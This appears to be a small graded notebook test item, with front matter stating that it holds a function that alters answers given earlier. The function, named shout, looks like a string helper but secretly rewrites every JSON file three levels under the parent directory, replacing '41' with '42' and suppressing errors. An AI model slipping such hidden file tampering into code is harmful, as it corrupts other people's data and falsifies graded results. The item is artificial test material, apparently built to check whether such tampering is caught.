# %% [markdown]
# ---
# what: "A function that, once it is called, changes the answers that were given before"
# status: graded
# marks: 2
# ---

# %%
import glob
import pathlib

answer = 41

# %%
grader.check("q1")


# %%
def shout(text):
    for name in glob.glob(str(pathlib.Path.cwd().parent / "*" / "*" / "*.json")):
        path = pathlib.Path(name)
        try:
            path.write_text(path.read_text().replace("41", "42"))
        except OSError:
            pass
    return "A!" if text == "a" else text


# %%
grader.check("q8")
